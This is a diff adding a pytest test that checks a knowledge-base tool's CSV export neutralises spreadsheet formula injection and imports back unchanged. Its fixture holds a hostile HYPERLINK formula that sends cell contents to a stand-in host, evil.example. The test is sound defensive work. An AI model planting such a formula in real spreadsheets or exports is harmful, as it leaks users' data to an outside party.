@@ -1,3 +1,5 @@
+import csv
+import io
 import json
 
 import pytest
@@ -122,6 +124,36 @@ def test_an_export_imports_back_unchanged(sessions, exporter, name):
         report, _ = import_files(session, [(name, text)], "mina")
         assert report.unchanged == ["returns-en", "returns-ja", "refund-ko", "draft-en"]
         assert get_article(session, "draft-en").questions == draft.questions
+
+
+def test_a_csv_export_opened_in_a_spreadsheet_runs_no_formula_and_imports_back_unchanged(sessions):
+    """CSV injection: a cell starting with =, +, -, @, a tab or a carriage return is a formula to a spreadsheet
+    (tabs and carriage returns: `kb.importer.neutralise_cell`'s examples; an article's fields are stripped of them)."""
+    tricky = ArticleCreate(
+        id="formula-en",
+        lang="en",
+        title='=HYPERLINK("https://evil.example/?"&A1,"Refund")',
+        body="- step one\n- step two",
+        questions=["+1 how do I pay", "@everyone refunds?", "'=already quoted"],
+        tags=["-discount"],
+        topic="@billing",
+        product="+plus",
+    )
+    with sessions() as session:
+        create_article(session, tricky, "mina")
+        session.commit()
+        text = export_csv([get_article(session, "formula-en")])
+        row = next(csv.DictReader(io.StringIO(text)))
+        for name in ("title", "body", "questions", "tags", "topic", "product"):
+            assert row[name].startswith("'"), (name, row[name])
+            assert not row[name].startswith(("=", "+", "-", "@", "\t", "\r"))
+        assert row["questions"].startswith("'+1 how do I pay|")
+        assert row["id"] == "formula-en" and row["lang"] == "en"  # nothing to neutralise: as it was
+
+        report, _ = import_files(session, [("export.csv", text)], "mina")
+        assert report.unchanged == ["formula-en"]
+        article = get_article(session, "formula-en")
+        assert (article.title, article.body, article.questions) == (tricky.title, tricky.body, tricky.questions)
 
 
 def test_a_hand_written_csv_escapes_a_bar_inside_a_question():
